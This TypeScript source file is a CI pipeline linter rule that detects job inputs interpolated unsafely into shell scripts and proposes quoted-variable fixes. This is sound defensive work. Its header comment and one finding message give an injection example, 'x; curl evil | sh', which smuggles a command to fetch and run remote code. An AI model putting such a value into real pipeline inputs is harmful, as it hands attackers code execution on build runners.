// An input interpolated into shell text runs whatever the caller put in it: `$[[ inputs.x ]]`
// is pasted into the script before the shell sees it, so `x; curl evil | sh` executes. Pass the
// input through `variables:` and quote the variable, or use `posix_escape`/`posix_quote` (unquoted).
import { isHash, jobsAndDefault, scriptLines, type PipelineRule, type SecurityFinding } from './context.js';

const INTERPOLATION = /\$\[\[\s*inputs\.([\w-]+)\s*((?:\|[^\]]*)?)\]\]/g;
/** The runner's job inputs (`${{ job.inputs.x }}`) are pasted into scripts the same way. */
const JOB_INPUT = /\$\{\{\s*job\.inputs\.([\w-]+)\s*\}\}/g;

/** Inputs no value of which can break out of the script: numbers, booleans, a fixed list of options. */
function safeInputs(header: Record<string, unknown> | undefined): Set<string> {
  const inputs = isHash(header?.spec) && isHash(header.spec.inputs) ? header.spec.inputs : {};
  return new Set(
    Object.entries(inputs)
      .filter(
        ([, d]) =>
          isHash(d) &&
          (d.type === 'number' || d.type === 'boolean' || (Array.isArray(d.options) && d.type !== 'array')),
      )
      .map(([n]) => n),
  );
}

export const inputInScript: PipelineRule = ({ written }) => {
  const out: SecurityFinding[] = [];
  for (const w of written) {
    const safe = safeInputs(w.header);
    for (const [job, def] of jobsAndDefault(w.content)) {
      for (const { key, line } of scriptLines(def)) {
        for (const m of line.matchAll(INTERPOLATION)) {
          const functions = m[2]!
            .split('|')
            .map((f) => f.trim())
            .filter(Boolean);
          const quoted = functions.at(-1) === 'posix_quote' || functions.at(-1) === 'posix_escape';
          if (safe.has(m[1]!) && !functions.includes('expand_vars')) continue;
          if (quoted) {
            const before = line[m.index! - 1];
            if (before !== '"' && before !== "'") continue;
            out.push({
              code: 'security-input-in-script',
              file: w.file,
              job,
              message:
                `${job}:${key} wraps \`${functions.at(-1)}\` of input \`${m[1]}\` in quotes, which ` +
                `undoes its quoting`,
              fix: `use \`$[[ inputs.${m[1]} | ${functions.at(-1)} ]]\` without surrounding quotes`,
            });
            continue;
          }
          out.push({
            code: 'security-input-in-script',
            file: w.file,
            job,
            message:
              `${job}:${key} interpolates input \`${m[1]}\` into shell text: a value such as \`x; curl … ` +
              `| sh\` runs as a command`,
            fix:
              `pass it through the job's \`variables:\` (e.g. \`${m[1]!.toUpperCase().replace(/-/g, '_')}: ` +
              `$[[ inputs.${m[1]} ]]\`) and use "$${m[1]!.toUpperCase().replace(/-/g, '_')}" quoted in the ` +
              `script, or \`$[[ inputs.${m[1]} | posix_escape ]]\` unquoted`,
          });
        }
        for (const m of line.matchAll(JOB_INPUT)) {
          out.push({
            code: 'security-input-in-script',
            file: w.file,
            job,
            message: `${job}:${key} interpolates job input \`${m[1]}\` into shell text`,
            fix: 'pass it through `variables:` and quote the variable in the script',
          });
        }
      }
    }
  }
  return out;
};
